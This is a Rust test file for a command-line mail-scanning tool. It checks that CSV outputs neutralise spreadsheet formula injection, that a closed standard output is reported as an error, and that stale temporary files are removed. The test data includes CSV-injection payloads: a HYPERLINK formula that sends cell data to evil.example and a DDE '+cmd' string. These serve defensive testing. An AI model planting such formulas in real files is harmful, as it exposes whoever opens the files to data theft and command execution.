//! Outputs that cannot hurt their reader or destroy data (issue 14, SPEC §6), through the
//! built binary: spreadsheet-safe CSV cells in every CSV the tool writes, read back raw when
//! a pairs file is given as input again.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

fn bin() -> Command {
    Command::new(env!("CARGO_BIN_EXE_repudiate"))
}

fn fixtures() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures")
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

fn ok(o: Output) -> Output {
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    o
}

/// Every cell of a CSV text, parsed as CSV.
fn cells(text: &[u8]) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text);
    reader
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
        .collect()
}

/// Asserts that no cell of `text` would be a formula, and that `text` has `needle` as a
/// cell (so the hostile value is really there, neutralised).
fn assert_safe(what: &str, text: &[u8], needle: &str) {
    let cells = cells(text);
    let formula = cells
        .iter()
        .find(|c| c.starts_with(['=', '+', '-', '@', '\t', '\r']));
    assert_eq!(formula, None, "{what}: {}", String::from_utf8_lossy(text));
    assert!(
        cells.iter().any(|c| c == needle),
        "{what} lacks {needle:?}: {}",
        String::from_utf8_lossy(text)
    );
}

const HYPERLINK: &str = "=hyperlink(\"http://evil.example/leak?\"&a1)";

#[test]
fn formula_cells_are_neutralised_everywhere_and_read_back_raw() {
    let tmp = tempfile::tempdir().unwrap();
    let mbox = fixtures().join("golden/csv-injection/hostile.mbox");
    let zone = fixtures().join("demo/what-if.zone");
    let scan = tmp.path().join("scan.csv");
    ok(bin()
        .args(["scan", "-q", "-o"])
        .arg(&scan)
        .arg(&mbox)
        .output()
        .unwrap());
    let scan_text = fs::read(&scan).unwrap();
    assert_safe("scan", &scan_text, &format!("'{HYPERLINK}"));

    let audit = |input: &Path, summary: &Path| {
        ok(bin()
            .args(["audit", "-q", "--offline", "--zone"])
            .arg(&zone)
            .arg("--summary")
            .arg(summary)
            .arg(input)
            .output()
            .unwrap())
    };
    let (direct_summary, merged_summary) = (tmp.path().join("d1.csv"), tmp.path().join("d2.csv"));
    let direct = audit(&mbox, &direct_summary);
    assert_safe("audit", &direct.stdout, "'-2+3");
    let summary = fs::read(&direct_summary).unwrap();
    assert_safe("--summary", &summary, "'+cmd|'/c calc'!a0");
    // The scan file as input: its neutralised cells are read back as the raw domains, so the
    // audit is the same as the audit of the mailbox itself.
    let merged = audit(&scan, &merged_summary);
    assert_eq!(
        String::from_utf8_lossy(&merged.stdout),
        String::from_utf8_lossy(&direct.stdout)
    );
    assert_eq!(fs::read(&merged_summary).unwrap(), summary);

    let check = ok(bin()
        .args([
            "check",
            "x@-1+2",
            "192.0.2.10",
            "--offline",
            "--format",
            "csv",
        ])
        .output()
        .unwrap());
    assert_safe("check --format csv", &check.stdout, "'-1+2");
}

/// The demo scan, with `extra` arguments, run by `sh` so standard output can be closed.
fn scan_via_sh(redirect: &str, extra: &[&str]) -> Output {
    let mbox = fixtures().join("demo/mail.mbox");
    Command::new("sh")
        .arg("-c")
        .arg(format!("exec \"$0\" \"$@\" {redirect}"))
        .arg(env!("CARGO_BIN_EXE_repudiate"))
        .args(["scan", "-q"])
        .arg(&mbox)
        .args(extra)
        .output()
        .unwrap()
}

#[test]
fn a_closed_standard_output_is_an_error_and_dev_null_is_not() {
    let closed = scan_via_sh(">&-", &[]);
    assert_eq!(closed.status.code(), Some(1), "{}", stderr(&closed));
    assert!(
        stderr(&closed).contains("standard output is closed"),
        "{}",
        stderr(&closed)
    );
    let discarded = scan_via_sh(">/dev/null", &[]);
    assert_eq!(discarded.status.code(), Some(0), "{}", stderr(&discarded));
    // With -o the closed standard output is not needed.
    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("pairs.csv");
    let to_file = scan_via_sh(">&-", &["-o", out.to_str().unwrap()]);
    assert_eq!(to_file.status.code(), Some(0), "{}", stderr(&to_file));
    assert!(fs::read_to_string(&out).unwrap().starts_with("domain,ip,messages\n"));
}

#[test]
fn temporary_files_of_a_killed_run_are_removed_under_the_lock() {
    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("pairs.csv");
    // What `kill -9` during a write leaves: the output's temporary file, never renamed.
    let stale = tmp.path().join(".repudiate-pairs.csv.Xy12Z9.tmp");
    fs::write(&stale, "domain,ip,messages\nhalf").unwrap();
    // Another output's temporary file: possibly a live run's, so it stays.
    let other = tmp.path().join(".repudiate-history.csv.Ab34Cd.tmp");
    fs::write(&other, "x").unwrap();
    ok(bin()
        .args(["scan", "-q", "-o"])
        .arg(&out)
        .arg(fixtures().join("demo/mail.mbox"))
        .output()
        .unwrap());
    assert!(!stale.exists(), "the stale temporary file is gone");
    assert!(other.exists(), "another output's temporary file is left alone");
    let names: Vec<String> = fs::read_dir(tmp.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert!(
        !names.iter().any(|n| n.starts_with(".repudiate-pairs.csv.")),
        "{names:?}"
    );
}
